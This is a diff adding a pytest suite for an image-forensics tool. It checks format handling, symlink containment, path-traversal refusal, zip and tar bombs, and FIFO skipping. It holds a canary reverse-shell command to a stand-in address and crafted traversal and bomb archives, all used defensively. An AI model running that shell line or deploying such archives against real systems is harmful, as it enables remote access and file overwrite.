@@ -1,0 +1,209 @@
+"""Image access: every input format yields the same entries, and hostile inputs stay harmless."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import os
+import stat
+import tarfile
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from cranewatch.cli import main
+from cranewatch.errors import ImageError
+from cranewatch.forensics import Limits, open_image, scan_image
+from cranewatch.forensics.image import detect_format
+from forensics_helpers import make_cpio, make_ext4, make_squashfs, make_tar, make_zip
+
+CANARY = "bash -i >& /dev/tcp/192.0.2.66/4444 0>&1  # CANARY outside the image\n"
+
+
+def _tree(root: Path) -> Path:
+    (root / "etc/cron.d").mkdir(parents=True)
+    (root / "usr/bin").mkdir(parents=True)
+    (root / "dev").mkdir()
+    (root / "etc/hostname").write_text("cms-pc\n")
+    (root / "etc/cron.d/job").write_text("* * * * * root /usr/bin/true\n")
+    (root / "usr/bin/tool").write_bytes(b"\x7fELF" + b"\x00" * 60 + b"payload")
+    os.chmod(root / "usr/bin/tool", 0o4755)
+    (root / "bin").symlink_to("usr/bin")
+    (root / "dev/fd").symlink_to("/proc/self/fd")
+    (root / "etc/loop-a").symlink_to("loop-b")
+    (root / "etc/loop-b").symlink_to("loop-a")
+    (root / "etc/empty").write_bytes(b"")
+    return root
+
+
+FORMATS = {
+    "tar.gz": lambda t, o: make_tar(t, o / "img.tar.gz", "gzip"),
+    "tar.xz": lambda t, o: make_tar(t, o / "img.tar.xz", "xz"),
+    "tar.bz2": lambda t, o: make_tar(t, o / "img.tar.bz2", "bzip2"),
+    "tar.zst": lambda t, o: make_tar(t, o / "img.tar.zst", "zstd"),
+    "zip": lambda t, o: make_zip(t, o / "img.zip"),
+    "cpio": lambda t, o: make_cpio(t, o / "img.cpio"),
+    "squashfs": lambda t, o: make_squashfs(t, o / "img.sqfs"),
+    "ext4": lambda t, o: make_ext4(t, o / "img.ext4"),
+}
+
+
+def _summary(path: Path) -> dict[str, tuple[str, int, str | None, bytes | None]]:
+    with open_image(path) as image:
+        out = {}
+        for e in image.entries.values():
+            content = None
+            if e.type == "file":
+                with image.open(e.path) as fh:
+                    content = fh.read()
+            out[e.path] = (e.type, e.mode, e.link, content)
+        return out
+
+
+@pytest.mark.parametrize("fmt", sorted(FORMATS))
+def test_every_format_yields_the_tree_as_on_disk(tmp_path: Path, fmt: str) -> None:
+    tree = _tree(tmp_path / "tree")
+    image = FORMATS[fmt](tree, tmp_path)
+    expected = _summary(tree)
+    got = _summary(image)
+    got.pop("lost+found", None)  # mke2fs adds it
+    assert got == expected
+    assert got["usr/bin/tool"][1] & stat.S_ISUID  # setuid bit survives every format
+    assert got["dev/fd"] == ("symlink", got["dev/fd"][1], "/proc/self/fd", None)
+
+
+def test_formats_are_detected_by_content_not_name(tmp_path: Path) -> None:
+    tree = _tree(tmp_path / "tree")
+    disguised = make_tar(tree, tmp_path / "firmware.bin", "xz")
+    assert detect_format(disguised) == ("tar", "xz")
+    assert detect_format(make_squashfs(tree, tmp_path / "x.img"))[0] == "squashfs"
+
+
+def test_symlinks_resolve_inside_the_image_root(tmp_path: Path) -> None:
+    tree = _tree(tmp_path / "tree")
+    with open_image(tree) as image:
+        assert image.resolve("bin/tool") == "usr/bin/tool"
+        assert image.resolve("dev/fd/0") is None  # /proc is not in the image: never the host's
+        assert image.resolve("etc/loop-a") is None  # a loop ends, it does not hang
+        assert image.resolve("../../../etc/hostname") == "etc/hostname"  # .. stops at the root
+        assert image.canonical("/bin/tool") == "usr/bin/tool"
+
+
+def test_absolute_symlink_to_a_host_file_is_never_read(tmp_path: Path) -> None:
+    canary = tmp_path / "canary.sh"
+    canary.write_text(CANARY)
+    tree = _tree(tmp_path / "tree")
+    (tree / "etc/cron.d/evil").symlink_to(canary)  # absolute, out of the tree
+    (tree / "etc/cron.d/up").symlink_to("../../../canary.sh")  # relative, climbing out
+    result = scan_image(tree, workers=1)
+    text = repr([f.to_json() for f in result.findings])
+    assert "CANARY" not in text and "192.0.2.66" not in text
+    with open_image(tree) as image, pytest.raises(ImageError):
+        image.open("etc/cron.d/evil")
+
+
+def _tar_with(members: list[tuple[tarfile.TarInfo, bytes | None]], out: Path) -> Path:
+    with tarfile.open(out, "w:gz") as tar:
+        for info, data in members:
+            tar.addfile(info, io.BytesIO(data) if data is not None else None)
+    return out
+
+
+def _member(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, link: str = "") -> tuple[tarfile.TarInfo, bytes | None]:
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.size = len(data) if kind == tarfile.REGTYPE else 0
+    info.linkname = link
+    info.mode = 0o644
+    return info, data if kind == tarfile.REGTYPE else None
+
+
+def test_path_traversal_members_are_refused_and_nothing_is_written_outside(tmp_path: Path) -> None:
+    victim_dir = tmp_path / "victim"
+    victim_dir.mkdir()
+    archive = _tar_with(
+        [
+            _member("etc/hostname", b"cms\n"),
+            _member("../../victim/owned", CANARY.encode()),
+            _member(f"{victim_dir}/abs-owned", CANARY.encode()),
+            _member("etc/link", kind=tarfile.SYMTYPE, link=str(victim_dir)),
+            _member("etc/link/through-link", CANARY.encode()),  # a write through a symlink
+            _member("etc/hard", kind=tarfile.LNKTYPE, link="../../etc/passwd"),
+        ],
+        tmp_path / "evil.tar.gz",
+    )
+    with open_image(archive) as image:
+        assert set(image.entries) == {"etc", "etc/hostname", "etc/link"}
+        warnings = " ".join(image.warnings)
+    assert "path traversal" in warnings and "../../victim/owned" in warnings
+    assert "below the non-directory etc/link" in warnings
+    assert list(victim_dir.iterdir()) == []
+    assert not (tmp_path.parent / "victim" / "owned").exists()
+
+
+def test_zip_bomb_is_refused_with_a_clear_message(tmp_path: Path) -> None:
+    bomb = tmp_path / "bomb.zip"
+    block = b"\x00" * (1 << 20)
+    with (
+        zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
+        archive.open("zeros", "w", force_zip64=True) as fh,
+    ):
+        for _ in range(300):
+            fh.write(block)
+    assert bomb.stat().st_size < 1 << 20
+    with pytest.raises(ImageError, match="zip bomb"):
+        open_image(bomb)
+
+
+def test_tar_bomb_stops_while_unpacking(tmp_path: Path) -> None:
+    bomb = tmp_path / "bomb.tar.gz"
+    with gzip.open(bomb, "wb", compresslevel=9) as gz, tarfile.open(fileobj=gz, mode="w") as tar:
+        info = tarfile.TarInfo("zeros")
+        info.size = 200 << 20
+        tar.addfile(info, io.BytesIO(b"\x00" * info.size))
+    with pytest.raises(ImageError, match="archive bomb"):
+        open_image(bomb, Limits(ratio_floor=16 << 20))
+    with pytest.raises(ImageError, match="size limit"):
+        open_image(bomb, Limits(max_total_bytes=8 << 20))
+
+
+def test_fifo_and_devices_are_skipped_with_a_note(tmp_path: Path) -> None:
+    tree = _tree(tmp_path / "tree")
+    os.mkfifo(tree / "dev/initctl")
+    result = scan_image(tree, workers=1)  # would hang forever if the FIFO were opened
+    assert any("FIFO" in w and "dev/initctl" in w for w in result.warnings)
+
+
+def test_file_count_limit(tmp_path: Path) -> None:
+    tree = _tree(tmp_path / "tree")
+    with pytest.raises(ImageError, match="file-count limit"):
+        open_image(make_tar(tree, tmp_path / "t.tar.gz"), Limits(max_files=3))
+
+
+@pytest.mark.parametrize("content", [b"", b"this is not an image at all\n" * 10])
+def test_empty_or_unknown_image_exits_3_with_a_message(tmp_path: Path, content: bytes, capsys: pytest.CaptureFixture[str]) -> None:
+    image = tmp_path / "image.bin"
+    image.write_bytes(content)
+    assert main(["scan-image", str(image)]) == 3
+    err = capsys.readouterr().err
+    assert "image.bin" in err
+    assert ("empty (0 bytes)" in err) if not content else ("unknown image format" in err)
+
+
+def test_truncated_archive_is_a_clear_error(tmp_path: Path) -> None:
+    tree = _tree(tmp_path / "tree")
+    whole = make_tar(tree, tmp_path / "t.tar.gz").read_bytes()
+    cut = tmp_path / "cut.tar.gz"
+    cut.write_bytes(whole[: len(whole) // 2])
+    with pytest.raises(ImageError, match="corrupt or truncated"):
+        open_image(cut)
+
+
+def test_unpacked_copy_is_removed_on_close(tmp_path: Path) -> None:
+    tree = _tree(tmp_path / "tree")
+    image = open_image(make_tar(tree, tmp_path / "t.tar.gz"))
+    root = image.root
+    assert (root / "etc/hostname").is_file()
+    image.close()
+    assert not root.exists()
